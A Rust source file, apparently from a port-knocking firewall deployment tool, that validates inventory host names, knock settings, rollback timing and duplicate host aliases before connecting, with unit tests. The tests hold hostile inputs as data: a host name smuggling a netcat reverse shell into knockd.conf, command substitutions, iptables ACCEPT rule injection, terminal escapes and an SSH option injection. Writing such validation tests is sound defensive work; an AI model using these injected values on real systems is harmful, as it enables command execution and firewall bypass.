//! Checks made on the controller before any host is touched: inventory host names that could
//! break out of the files and commands they reach, knock settings, a rollback window shorter
//! than the proof it must outlast, and two inventory names for one machine. Pure: no I/O
//! beyond name resolution done by the caller; never prints.

use super::apply::worst_case_proof;
use super::profile::{KnockProfile, KnockVarErrors, NetFacts};
use serde_json::{Map, Value};
use std::time::Duration;

/// Why a host is refused before anything connects to it.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum PreflightError {
    #[error(
        "host {shown}: inventory_hostname {problem}: host names reach rendered configuration \
         (knockd.conf, rules.v4 comments), commands and the terminal; name the host with letters, \
         digits and . - _ : @ % + and put its address in ansible_host"
    )]
    HostName { shown: String, problem: String },
    #[error(transparent)]
    Vars(#[from] KnockVarErrors),
    #[error(
        "host {host}: knock_rollback_seconds = {rollback}: shorter than the longest the proof can \
         take with these settings ({needed}s: load, probe, {attempts} knock(s) and connection(s) of \
         up to {connect}s each{extra}); the dead-man switch would restore the old rules while the \
         proof still runs. Raise knock_rollback_seconds to at least {needed}, or lower the \
         connection timeout (ansible_timeout / -T)"
    )]
    RollbackTooShort {
        host: String,
        rollback: u32,
        needed: u64,
        attempts: u32,
        connect: u64,
        extra: String,
    },
    #[error(
        "host {host}: the same machine as host {first} ({endpoint}): two firewall transactions \
         on one machine would overwrite each other; keep one inventory name for it (or --limit \
         to one of them)"
    )]
    Alias {
        host: String,
        first: String,
        endpoint: String,
    },
}

/// Punctuation a host name may hold besides letters and digits (Unicode ones included).
const NAME_PUNCTUATION: &[char] = &['.', '-', '_', ':', '@', '%', '+'];

/// A host name as sesame accepts it, or what is wrong with it. YAML, JSON and script
/// inventories accept any string; a newline in a name written into a knockd.conf comment
/// would start a line of its own (a `start_command`), so names keep to what DNS names, IPv6
/// addresses and Ansible's INI host patterns use.
pub fn check_host_name(name: &str) -> Result<(), PreflightError> {
    let bad = |problem: String| PreflightError::HostName {
        shown: format!("{name:?}"),
        problem,
    };
    if name.is_empty() {
        return Err(bad("is empty".into()));
    }
    if let Some(c) = name.chars().find(|c| c.is_control()) {
        return Err(bad(format!("contains the control character {c:?}")));
    }
    if let Some(c) = name.chars().find(|c| c.is_whitespace()) {
        return Err(bad(format!("contains white space ({c:?})")));
    }
    if let Some(c) = name
        .chars()
        .find(|c| !c.is_alphanumeric() && !NAME_PUNCTUATION.contains(c))
    {
        return Err(bad(format!("contains {c:?}")));
    }
    if name.starts_with('-') {
        return Err(bad("starts with '-' (it would read as an option)".into()));
    }
    Ok(())
}

/// Whether a host's variables ask for knocking (the same test as the pre-connect knock).
pub fn has_knock_settings(vars: &Map<String, Value>) -> bool {
    vars.get("knock_mode").and_then(Value::as_str) == Some("single_port")
        || vars.get("knock_sequence").is_some_and(|v| !v.is_null())
}

/// The knock settings of a host about to be run, checked as far as the controller can without
/// the host's facts, and the rollback window against the proof. `vars` already carry the
/// session's port (see `profile::with_session_port`).
pub fn check_knock(
    host: &str,
    vars: &Map<String, Value>,
    connect_timeout: Duration,
    knock_retries: u32,
) -> Result<Option<KnockProfile>, PreflightError> {
    if !has_knock_settings(vars) {
        return Ok(None);
    }
    // Stand-ins for facts not gathered yet: checks that need them run again on the host.
    let facts = NetFacts {
        default_interface: Some("unknown0".into()),
        has_ipv6: false,
        controller_ip: None,
        forwarded_ports: Vec::new(),
    };
    let profile = KnockProfile::from_vars(host, vars, &facts)?;
    check_rollback_window(&profile, connect_timeout, knock_retries)?;
    Ok(Some(profile))
}

/// Refuse a `knock_rollback_seconds` the proof can outlast (issue: a slow single_port proof
/// was reported kept while the switch had already restored the old rules).
pub fn check_rollback_window(
    profile: &KnockProfile,
    connect_timeout: Duration,
    knock_retries: u32,
) -> Result<(), PreflightError> {
    let needed = worst_case_proof(profile, connect_timeout, knock_retries);
    let needed = needed.as_secs() + u64::from(needed.subsec_nanos() > 0);
    if u64::from(profile.rollback_seconds) >= needed {
        return Ok(());
    }
    let extra = match profile.mode {
        super::KnockMode::SinglePort => format!(
            ", {} hit(s) spaced at least {}s and a {}s pause per attempt",
            profile.prior_hits,
            profile.hit_min_seconds,
            profile.hit_max_seconds + 1
        ),
        _ => String::new(),
    };
    Err(PreflightError::RollbackTooShort {
        host: profile.host.clone(),
        rollback: profile.rollback_seconds,
        needed,
        attempts: 1 + knock_retries,
        connect: connect_timeout.as_secs(),
        extra,
    })
}

/// Hosts in run order with the endpoint their sessions reach; the second and later names for
/// one endpoint are refused, each naming the first.
pub fn aliases<'a>(
    hosts: impl IntoIterator<Item = (&'a str, String)>,
) -> Vec<(String, PreflightError)> {
    let mut first: std::collections::HashMap<String, &'a str> = std::collections::HashMap::new();
    let mut out = Vec::new();
    for (host, endpoint) in hosts {
        match first.get(&endpoint) {
            Some(f) => out.push((
                host.to_string(),
                PreflightError::Alias {
                    host: host.to_string(),
                    first: f.to_string(),
                    endpoint: endpoint.clone(),
                },
            )),
            None => {
                first.insert(endpoint, host);
            }
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    fn vars(v: Value) -> Map<String, Value> {
        v.as_object().unwrap().clone()
    }

    #[test]
    fn hostile_host_names_are_refused_and_named_escaped() {
        for name in [
            "web1\n\tstart_command = /bin/sh -c 'nc -e /bin/sh 203.0.113.9 4444'",
            "web1\r-A INPUT -j ACCEPT",
            "web$(touch /tmp/pwned)",
            "web1;reboot",
            "web 1",
            "web`id`",
            "web|x",
            "we\u{1b}]0;title\u{7}b",
            "web\u{85}1",
            "-oProxyCommand=x",
            "",
        ] {
            let e = check_host_name(name).expect_err(name).to_string();
            assert!(
                !e.contains('\n') && !e.contains('\r') && !e.contains('\u{1b}'),
                "{e}"
            );
            assert!(e.contains("inventory_hostname"), "{e}");
        }
        let e = check_host_name("web1\nx").unwrap_err().to_string();
        assert!(e.contains(r#""web1\nx""#), "the name is shown escaped: {e}");
        for name in [
            "web1",
            "web-1.example.org",
            "198.19.1.11",
            "fd5e:5a3e:0:1::11",
            "fe80::1%ens3",
            "db_primary",
            "münchen-1",
            "user@host",
        ] {
            check_host_name(name).unwrap_or_else(|e| panic!("{name}: {e}"));
        }
    }

    #[test]
    fn hostile_values_are_refused_naming_host_and_variable() {
        let cases = [
            (
                "knock_interface",
                json!("eth0\n[evil]\nstart_command=/bin/sh"),
            ),
            ("knock_interface", json!("eth0;reboot")),
            ("knock_interface", json!("$(reboot)")),
            (
                "knock_allow_sources",
                json!(["10.0.0.0/8\n-A INPUT -j ACCEPT"]),
            ),
            ("knock_allow_sources", json!(["10.0.0.1;reboot"])),
            ("knock_allow_sources", json!(["$(reboot)"])),
            (
                "knock_sequence",
                json!([7000, "7001\r\nstart_command=x", 7002]),
            ),
            ("knock_protected_ports", json!(["22;reboot"])),
            ("knock_public_ports", json!(["$(id)"])),
            ("knock_mode", json!("knockd\nx")),
            ("knock_rollback_seconds", json!("60;reboot")),
        ];
        for (var, value) in cases {
            let mut v = vars(json!({"knock_sequence": [7000, 7001, 7002]}));
            v.insert(var.to_string(), value.clone());
            let e = check_knock("web1", &v, Duration::from_secs(10), 1)
                .expect_err(&format!("{var} = {value}"))
                .to_string();
            assert!(e.contains("host web1"), "{e}");
            assert!(e.contains(var), "{var}: {e}");
        }
    }

    /// Issue 11 item 2: the reproduced case (single_port, 4 hits 4 s apart, a 10 s switch) is
    /// refused before any host is touched, naming both numbers.
    #[test]
    fn a_rollback_window_shorter_than_the_proof_is_refused() {
        let v = vars(json!({
            "knock_mode": "single_port", "knock_hitcount": 4, "knock_hit_min_seconds": 4,
            "knock_hit_max_seconds": 13, "knock_rollback_seconds": 10
        }));
        let e = check_knock("web1", &v, Duration::from_secs(10), 1).unwrap_err();
        let PreflightError::RollbackTooShort {
            rollback, needed, ..
        } = &e
        else {
            panic!("{e}")
        };
        assert_eq!(*rollback, 10);
        assert_eq!(*needed, 80, "{needed}");
        let text = e.to_string();
        assert!(text.contains("knock_rollback_seconds = 10"), "{text}");
        assert!(text.contains(&format!("at least {needed}")), "{text}");
        // The defaults fit their own window, in every mode, and so does a slower single_port.
        for v in [
            json!({"knock_sequence": [7000, 7001, 7000, 7002]}),
            json!({"knock_mode": "iptables", "knock_sequence": [7000, 7001, 7000, 7002]}),
            json!({"knock_mode": "single_port"}),
            json!({"knock_mode": "single_port", "knock_hitcount": 3, "knock_hit_min_seconds": 2,
                   "knock_hit_max_seconds": 9}),
        ] {
            check_knock("web1", &vars(v.clone()), Duration::from_secs(10), 1)
                .unwrap_or_else(|e| panic!("{v}: {e}"));
        }
        // A longer connection timeout or more retries need a longer window.
        let v = vars(json!({"knock_sequence": [7000, 7001, 7000, 7002]}));
        assert!(check_knock("web1", &v, Duration::from_secs(45), 1).is_err());
        assert!(check_knock("web1", &v, Duration::from_secs(10), 12).is_err());
    }

    #[test]
    fn two_names_for_one_endpoint_are_refused() {
        let e = aliases([
            ("web1", "198.19.1.11:22".to_string()),
            ("web2", "198.19.1.12:22".to_string()),
            ("web1-again", "198.19.1.11:22".to_string()),
            ("web1-ssh2", "198.19.1.11:2222".to_string()),
        ]);
        assert_eq!(e.len(), 1);
        assert_eq!(e[0].0, "web1-again");
        let text = e[0].1.to_string();
        assert!(
            text.contains("host web1-again: the same machine as host web1 (198.19.1.11:22)"),
            "{text}"
        );
    }
}
